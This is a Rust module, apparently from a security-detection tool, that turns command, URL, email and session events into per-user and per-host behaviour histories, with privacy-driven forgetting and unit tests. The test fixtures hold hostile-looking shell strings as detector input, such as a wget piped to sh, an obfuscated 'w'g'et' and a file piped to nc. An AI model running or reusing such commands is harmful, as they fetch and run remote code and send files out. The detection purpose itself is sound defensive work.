//! Habits: what of an event a history of users and hosts takes in, and the part of its row that comes of it.
//!
//! ```text
//!   user, host, time, programs of the evidence ──seen──► Seen ─► History ─► signals at the end of the row
//! ```
//!
//! Training replays and serving continues, and both see an event through this file alone. Users and hosts are
//! what the privacy rules left of them. An event without a time is not seen: nobody knows what came before it.

use std::sync::Arc;

use ringtrue_core::{Event, EventTime, Task};
use serde::{Deserialize, Serialize};

use crate::evidence;
use crate::history::{
    History, HistoryError, HistoryKey, HistoryParameters, Level, Observation, Seen,
};
use crate::mapping::Role;
use crate::reader::{LeftOut, ReaderSpec, left_out};

/// Who may be behind the events of a stream.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Actors {
    /// Whether a timed event names its user.
    pub user: bool,
    /// Whether a timed event names its host.
    pub host: bool,
    /// Whether an event names either and has no time.
    pub untimed: bool,
}

impl Actors {
    /// Takes in whom an event names.
    pub fn meet(&mut self, event: &Event) {
        let [user, host] = [Role::User, Role::Host].map(|role| name(event, role).is_some());
        if event.time.is_some() {
            self.user |= user;
            self.host |= host;
        } else {
            self.untimed |= user || host;
        }
    }
}

/// Whose habits rows tell of.
#[derive(Clone, Copy, Debug, PartialEq, Serialize, Deserialize)]
pub struct HabitSpec {
    /// Whether users are told apart.
    pub user: bool,
    /// Whether hosts are told apart.
    pub host: bool,
    /// How what was met weighs.
    pub parameters: HistoryParameters,
}

impl HabitSpec {
    /// Returns whose habits the rows of a task's events tell of: of those whom the stream names and the task does not
    /// drop; `None` if there is nobody.
    #[must_use]
    pub fn of(task: &Task, actors: Actors) -> Option<Self> {
        let left_out = left_out(task);
        let is_seen = |role| task.kind.has_actor() && !is_dropped(&left_out, task, role);
        let spec = Self {
            user: actors.user && is_seen(Role::User),
            host: actors.host && is_seen(Role::Host),
            parameters: HistoryParameters::default(),
        };
        (spec.user || spec.host).then_some(spec)
    }

    /// Returns the fields by which somebody is told from others.
    pub fn fields(self) -> impl Iterator<Item = &'static str> {
        let roles = [(self.user, "user"), (self.host, "host")].into_iter();
        roles
            .filter(|(is_read, _)| *is_read)
            .map(|(_, field)| field)
    }
}

/// Returns the key under which histories are kept. Everybody has it: the privacy rules left of users and hosts what may be
/// kept, and where they are to be hidden their pseudonyms stand there.
pub(crate) fn key() -> HistoryKey {
    HistoryKey::public()
}

/// Writes a stored history anew without some users and hosts; `None` if it remembers none of them.
///
/// # Errors
///
/// Those of [`History::from_bytes`].
pub fn without<'a>(
    bytes: &[u8],
    names: impl IntoIterator<Item = (Level, &'a str)>,
) -> Result<Option<Vec<u8>>, HistoryError> {
    let mut history = History::from_bytes(bytes, key())?;
    let mut is_changed = false;
    for (level, name) in names {
        is_changed |= history.forget(level, name);
    }
    Ok(is_changed.then(|| history.to_bytes()))
}

/// Returns whether the task drops the column of a role, by the name that it states or by any that is usual.
fn is_dropped(left_out: &LeftOut, task: &Task, role: Role) -> bool {
    let stated = role.stated(task).into_iter();
    let mut names = stated.chain(role.field_name(task.kind));
    names.any(|name| left_out.contains(name))
        || role.stated(task).is_none()
            && role
                .usual_names(task.kind)
                .iter()
                .any(|name| left_out.contains(name))
}

/// Who did something, and when.
pub(crate) struct Actor {
    user: Option<Arc<str>>,
    host: Option<Arc<str>>,
    time: EventTime,
}

impl Actor {
    fn observation<'a>(&'a self, names: &'a [&'a str]) -> Observation<'a> {
        Observation {
            user: self.user.as_deref(),
            host: self.host.as_deref(),
            names,
            time: Some(self.time),
        }
    }

    /// Returns what a history takes in where the actor ran programs of these numbers, which `key` made.
    pub(crate) fn seen(&self, key: &HistoryKey, programs: &[u64]) -> Seen {
        Seen::of(&self.observation(&[]), key, 0).with_names(programs)
    }
}

/// Returns who is behind an event; `None` if rows tell of no habits, or nobody knows when it happened.
pub(crate) fn actor(spec: &ReaderSpec, event: &Event) -> Option<Actor> {
    let habits = spec.habits?;
    let named = |is_read, role| name(event, role).filter(|_| is_read);
    Some(Actor {
        user: named(habits.user, Role::User),
        host: named(habits.host, Role::Host),
        time: event.time?,
    })
}

/// Returns what a history takes in of an event; `None` if rows tell of no habits, or nobody knows when it happened.
pub(crate) fn seen(spec: &ReaderSpec, key: &HistoryKey, event: &Event) -> Option<Seen> {
    let most = spec.limits.history_event_names_max;
    observed(spec, event, |observation| Seen::of(observation, key, most))
}

/// Calls `look` with an event as a history sees it.
pub(crate) fn observed<T>(
    spec: &ReaderSpec,
    event: &Event,
    look: impl FnOnce(&Observation<'_>) -> T,
) -> Option<T> {
    let actor = actor(spec, event)?;
    let programs = evidence::programs(spec, event);
    let names: Vec<&str> = programs.iter().map(String::as_str).collect();
    Some(look(&actor.observation(&names)))
}

/// Returns who is named in a role; `None` of an empty name.
fn name(event: &Event, role: Role) -> Option<Arc<str>> {
    let field = role
        .field_name(event.kind)
        .filter(|_| event.kind.has_actor())?;
    event.value(field).text().filter(|name| !name.is_empty())
}

#[cfg(test)]
mod tests {
    use ringtrue_core::{Field, Kind, Limits, Trust, Value};

    use super::*;
    use crate::reader::{Extent, Known, Reading, SignalReader};
    use crate::table::TableEncoder;
    use crate::text::TextParameters;

    const BOTH: Actors = Actors {
        user: true,
        host: true,
        untimed: false,
    };

    fn read(task: &Task, actors: Actors) -> Vec<&'static str> {
        let spec = HabitSpec::of(task, actors).into_iter();
        spec.flat_map(HabitSpec::fields).collect()
    }

    #[test]
    fn only_those_whom_the_data_names_and_the_task_keeps_are_told_apart() {
        let mut task = Task::assumed(Kind::Command);
        assert_eq!(read(&task, BOTH), ["user", "host"]);
        let alone = Actors {
            user: false,
            ..BOTH
        };
        assert_eq!(read(&task, alone), ["host"]);
        assert!(HabitSpec::of(&task, Actors::default()).is_none());
        assert!(HabitSpec::of(&Task::assumed(Kind::Url), BOTH).is_none());
        for (dropped, expected) in [("sensor", "user"), ("USERNAME", "host")] {
            task.columns.drop = vec![dropped.to_owned()];
            assert_eq!(read(&task, BOTH), [expected], "{dropped}");
        }
        // A column that is stated is no other.
        task.columns.user = Some("auid".to_owned());
        assert_eq!(read(&task, BOTH), ["user", "host"]);
        task.columns.drop = vec!["Auid".to_owned(), "host".to_owned()];
        assert!(HabitSpec::of(&task, BOTH).is_none());
    }

    fn event(kind: Kind, evidence: &str, time: Option<i64>) -> Event {
        let fields = [
            (kind.evidence().unwrap(), evidence),
            ("user", "ada"),
            ("host", ""),
        ];
        Event {
            kind,
            time: time.map(EventTime),
            label_known: None,
            label: None,
            source: None,
            trust: Trust::default(),
            family: None,
            group: None,
            fields: fields
                .map(|(name, text)| Field {
                    name: Arc::from(name),
                    value: Value::Text(Arc::from(text)),
                })
                .into(),
        }
    }

    fn reader(kind: Kind) -> SignalReader {
        SignalReader::new(ReaderSpec {
            kind,
            derived: Vec::new(),
            table: TableEncoder {
                columns: Vec::new(),
            },
            foreign: None,
            habits: HabitSpec::of(&Task::assumed(kind), BOTH),
            email: ringtrue_core::task::EmailOptions::default(),
            text: TextParameters::default(),
            limits: Limits {
                history_event_names_max: 50,
                ..Limits::default()
            },
        })
        .unwrap()
    }

    #[test]
    fn what_is_not_asked_for_changes_nothing_else() {
        for (kind, evidence) in [
            (Kind::Url, "http://login.a.example/x.php?id=7"),
            (
                Kind::Email,
                "From: ann@a.example\nSubject: Win\n\nCall http://b.example now",
            ),
            (Kind::Command, "wget -q x | sh -c 'id; ls'"),
            (Kind::Session, "[\"id; uname -a\", \"ls -l\"]"),
        ] {
            let reader = reader(kind);
            let event = event(kind, evidence, Some(5));
            let [mut whole, mut text] = [Extent::Whole, Extent::Text].map(|extent| {
                let mut reading = Reading::default();
                reader.read_knowing((&event, Known::default()), extent, &mut reading);
                reading
            });
            assert_eq!(text.row().len(), reader.schema().signals.len());
            assert!((0..text.row().len()).all(|signal| text.row().get(signal).is_nan()));
            assert!((0..whole.row().len()).any(|signal| !whole.row().get(signal).is_nan()));
            assert_eq!(text.take_seen(), whole.take_seen(), "{evidence}");
            let [of_text, of_whole] = [&text, &whole].map(|it| (&it.tokens, it.entity));
            assert_eq!(of_text, of_whole, "{evidence}");
            assert!(!text.tokens.is_empty(), "{evidence}");
        }
    }

    #[test]
    fn reading_a_row_tells_what_is_seen_without_another_parse() {
        let long = "ls; ".repeat(60) + "sh -c 'cat x | nc h 1'";
        for (kind, evidence) in [
            (Kind::Command, "sudo w'g'et -q x | sh -c 'id; ls'"),
            (Kind::Command, "[\"/bin/sh\", \"-c\", \"echo a; id\"]"),
            (Kind::Command, &long),
            (
                Kind::Session,
                "[\"id; uname -a\", \"[\\\"ls\\\", \\\"-l\\\"]\"]",
            ),
            (Kind::Session, &long),
            (Kind::Session, ""),
        ] {
            let reader = reader(kind);
            let mut reading = Reading::default();
            for time in [Some(5), None, Some(7)] {
                let event = event(kind, evidence, time);
                reader.read(&event, &mut reading);
                let seen = reading.take_seen();
                assert_eq!(seen, reader.seen(&event), "{evidence}");
                assert_eq!(seen.is_some(), time.is_some(), "{evidence}");
            }
        }
    }

    #[test]
    fn a_stored_history_is_written_without_somebody() {
        let mut history = History::new(
            key(),
            HistoryParameters::default(),
            &ringtrue_core::Limits::default(),
        );
        for user in ["ada", "bob"] {
            history.observe(&Observation {
                user: Some(user),
                names: &["ls"],
                ..Observation::default()
            });
        }
        let bytes = history.to_bytes();
        assert_eq!(
            without(&bytes, [(Level::Host, "ada"), (Level::User, "eve")]),
            Ok(None)
        );
        let left = without(&bytes, [(Level::User, "ada")]).unwrap().unwrap();
        let left = History::from_bytes(&left, key()).unwrap();
        assert!(!left.remembers(Level::User, "ada") && left.remembers(Level::User, "bob"));
        assert!(without(b"rt-other", []).is_err());
    }
}
